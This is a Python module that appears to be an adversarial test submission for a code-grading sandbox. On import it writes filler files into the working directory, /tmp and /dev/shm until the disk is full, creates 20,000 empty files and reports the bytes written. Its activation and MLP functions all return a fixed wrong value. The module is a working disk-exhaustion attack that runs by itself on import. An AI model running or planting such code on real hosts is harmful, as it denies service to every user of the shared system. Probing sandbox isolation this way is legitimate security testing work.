"""Resource abuse: fill the grading host's disk.

Attack: at import the module writes files as large as the per-file size
limit allows into its working directory, then into ``/tmp`` and
``/dev/shm``, until the file system is full or 1 GiB has gone into each place, and creates 20,000 empty
files; it prints ``WROTE <bytes>``, the total it managed to store. A per-file
limit alone does not bound the total: on a host disk the same loop, run for
the whole time limit, fills the disk, and then the store cannot save anyone's
results. Functions return a wrong constant (12345.678).

Success would look like: ``WROTE`` larger than what the sandbox's disk limits
allow in all, or any points.
Backends: bwrap, docker
Unisolated: not promised; the subprocess backend writes to the host's disk
"""

import errno
import os

import numpy as np

W = 12345.678
CHUNK = b"\xab" * 2**20
CAP = 2**30
total = 0
for where in (".", "/tmp", "/dev/shm"):
    written, i, full = 0, 0, False
    while written < CAP and not full:
        i += 1
        try:
            fd = os.open(os.path.join(where, f"fill-{i}.bin"), os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
        except OSError as exc:
            print(f"{where}: cannot create a file: {exc.strerror}")
            break
        try:
            while written < CAP:
                written += os.write(fd, CHUNK)
        except OSError as exc:
            full = exc.errno != errno.EFBIG  # EFBIG: this file is at the size limit, start the next
            if full:
                print(f"{where}: stopped after {written} bytes: {exc.strerror}")
        finally:
            os.close(fd)
    total += written
empty = 0
try:
    for i in range(20_000):
        open(f"empty-{i}", "wb").close()
        empty += 1
except OSError as exc:
    print(f"empty files: stopped after {empty}: {exc.strerror}")
print(f"WROTE {total}")


def _w(shape):
    return np.full(shape, W)


def sigmoid(z):
    return _w(np.shape(z))


def sigmoid_grad(z):
    return _w(np.shape(z))


def tanh(z):
    return _w(np.shape(z))


def tanh_grad(z):
    return _w(np.shape(z))


def relu(z):
    return _w(np.shape(z))


def relu_grad(z):
    return _w(np.shape(z))


def leaky_relu(z, alpha=0.01):
    return _w(np.shape(z))


def leaky_relu_grad(z, alpha=0.01):
    return _w(np.shape(z))


def neuron(x, w, b, activation="sigmoid"):
    return _w(np.shape(x)[:-1])


def affine_forward(x, w, b):
    return _w((np.shape(x)[0], np.shape(w)[1])), None


def mlp_forward(x, params, activation="relu"):
    return _w((np.shape(x)[0], np.shape(params[-1][0])[1]))
